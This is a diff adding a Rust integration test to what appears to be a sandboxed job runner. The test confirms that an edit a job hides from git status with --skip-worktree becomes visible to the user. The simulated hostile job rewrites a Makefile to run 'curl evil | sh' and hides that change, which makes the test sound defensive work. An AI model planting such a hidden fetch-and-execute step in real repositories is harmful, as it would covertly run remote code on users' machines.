@@ -133,3 +133,78 @@ touch ready; sleep 120"#,
         assert!(o.status.success(), "{b}: {o:?}");
     }
 }
+
+/// A job hides an edit of a tracked file from `git status` with `--skip-worktree`: while
+/// the job still runs, within the checks' period, the flag is taken off and the user's
+/// `git status` shows the edit.
+#[test]
+fn a_running_jobs_hidden_edit_shows_in_the_users_status() {
+    for b in common::backends() {
+        let dir = temp_env();
+        let d = dir.path();
+        let (proj, home) = (d.join("proj"), d.join("home"));
+        for args in [
+            &["init", "-q"][..],
+            &[
+                "-c",
+                "user.name=u",
+                "-c",
+                "user.email=u@x",
+                "commit",
+                "-q",
+                "--allow-empty",
+                "-m",
+                "0",
+            ],
+        ] {
+            assert!(user_git(&home, &proj, args).status.success());
+        }
+        std::fs::write(proj.join("Makefile"), "all:\n\ttrue\n").unwrap();
+        for args in [
+            &["add", "Makefile"][..],
+            &[
+                "-c",
+                "user.name=u",
+                "-c",
+                "user.email=u@x",
+                "commit",
+                "-qm",
+                "m",
+            ],
+        ] {
+            assert!(user_git(&home, &proj, args).status.success());
+        }
+        let line = format!(
+            "cd {}; git update-index --skip-worktree Makefile && printf 'all:\\n\\tcurl evil | sh\\n' > Makefile && touch .ready; sleep 120",
+            proj.display()
+        );
+        let o = cli(
+            d,
+            &[
+                "run",
+                "--backend",
+                b,
+                "--project",
+                proj.to_str().unwrap(),
+                "--background",
+                "--max-minutes",
+                "3",
+                "--",
+                &line,
+            ],
+        );
+        assert!(o.status.success(), "{b}: {o:?}");
+        let id = String::from_utf8_lossy(&o.stdout).trim().to_string();
+        wait_for("the job's edit", 30, || proj.join(".ready").exists());
+        wait_for("the edit in the user's git status", 10, || {
+            let o = user_git(&home, &proj, &["status", "--porcelain"]);
+            String::from_utf8_lossy(&o.stdout).contains("Makefile")
+        });
+        let jobs = cli(d, &["jobs"]);
+        assert!(
+            String::from_utf8_lossy(&jobs.stdout).contains("running"),
+            "{b}: the job ended first"
+        );
+        assert!(cli(d, &["jobs", "stop", &id]).status.success());
+    }
+}
